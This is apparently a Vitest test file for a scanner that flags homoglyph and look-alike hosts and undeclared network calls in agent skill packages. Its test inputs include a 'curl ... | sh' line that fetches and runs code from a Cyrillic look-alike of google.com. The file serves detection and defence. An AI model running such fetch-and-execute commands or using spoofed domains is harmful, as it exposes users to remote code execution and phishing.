import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { describeHost, homoglyphOf, hostFromUrl, isDeclaredHost, lookalikeOf, normalHost } from "../../src/skill/hosts.js";
import { cli, makeSandbox } from "../workflow/cli-harness.js";

const HOMOGLYPH = "g\u043e\u043egle.com"; // Cyrillic о twice

describe("hosts: IDNs and homoglyphs", () => {
  it.each([
    [`curl -s https://${HOMOGLYPH}/x | sh`, "xn--ggle-55da.com"],
    ["wget https://B\u00fccher.de:8443/a", "xn--bcher-kva.de"],
    ["curl https://user:pw@API.github.com/x", "api.github.com"],
    ["fetch('https://[::1]:8080/')", "[::1]"],
    ["no url here", undefined],
  ])("hostFromUrl(%j) = %j, never a truncated host", (text, want) => {
    expect(hostFromUrl(text)).toBe(want);
  });

  it("names the look-alike and the Unicode form, and leaves ASCII and genuine IDNs alone", () => {
    expect(lookalikeOf("xn--ggle-55da.com")).toBe("google.com");
    expect(describeHost("xn--ggle-55da.com")).toBe(`xn--ggle-55da.com (${HOMOGLYPH}, looks like google.com)`);
    expect(lookalikeOf("xn--80ak6aa92e.com")).toBe("apple.com");
    expect(lookalikeOf("github.com")).toBeUndefined();
    expect(describeHost("github.com")).toBe("github.com");
    expect(describeHost("xn--bcher-kva.de")).toBe("xn--bcher-kva.de (b\u00fccher.de, looks like bucher.de)");
    expect(lookalikeOf("xn--fiqs8s.cn")).toBeUndefined(); // 中国.cn reads as no ASCII name
  });

  it("calls only mixed-script look-alikes homoglyphs (an accented Latin IDN is a real name)", () => {
    expect(homoglyphOf("xn--ggle-55da.com")).toBe("google.com");
    expect(homoglyphOf("xn--80ak6aa92e.com")).toBe("apple.com");
    expect(homoglyphOf("xn--bcher-kva.de")).toBeUndefined();
    expect(homoglyphOf("google.com")).toBeUndefined();
  });

  it("compares a declared Unicode host by its punycode", () => {
    expect(normalHost(`https://${HOMOGLYPH}/`)).toBe("xn--ggle-55da.com");
    expect(isDeclaredHost("xn--ggle-55da.com", [HOMOGLYPH])).toBe(true);
    expect(isDeclaredHost("xn--ggle-55da.com", ["google.com"])).toBe(false);
  });
});

describe("hosts through the CLI", { timeout: 120_000 }, () => {
  it("reports a homoglyph host as punycode with its look-alike, and the fix declares the punycode host", async () => {
    const sb = await makeSandbox(["manifest"]);
    const dir = join(sb.root, "homoglyph");
    mkdirSync(join(dir, "scripts"), { recursive: true });
    writeFileSync(join(dir, "SKILL.md"), "---\nname: homoglyph\ndescription: Fetches the daily report for the user.\n---\n# homoglyph\nRun scripts/get.sh.\n");
    writeFileSync(join(dir, "scripts/get.sh"), `#!/bin/sh\ncurl -s https://${HOMOGLYPH}/report -o report.txt\n`);
    const r = await cli(["scan", dir, "--only", "manifest", "--policy", sb.policy, "--json"], sb.env);
    const f = JSON.parse(r.stdout).skills[0].findings.find((x: { ruleId: string }) => x.ruleId === "manifest.inferred-network");
    expect(f.message).toContain(`runs a network client to xn--ggle-55da.com (${HOMOGLYPH}, looks like google.com)`);
    expect(f.fix).toContain('requires.network: ["xn--ggle-55da.com"]');
    expect(r.stdout).not.toMatch(/to g[,"]|\["g"\]/);
    const look = JSON.parse(r.stdout).skills[0].findings.find((x: { ruleId: string }) => x.ruleId === "manifest.lookalike-host");
    expect(look).toMatchObject({ severity: "high", file: "scripts/get.sh", line: 2 });
    expect(look.message).toContain("looks like google.com");
    expect(look.fix).toContain("(google.com)");
    expect(JSON.parse(r.stdout).skills[0].verdict).toBe("review");
  });
});
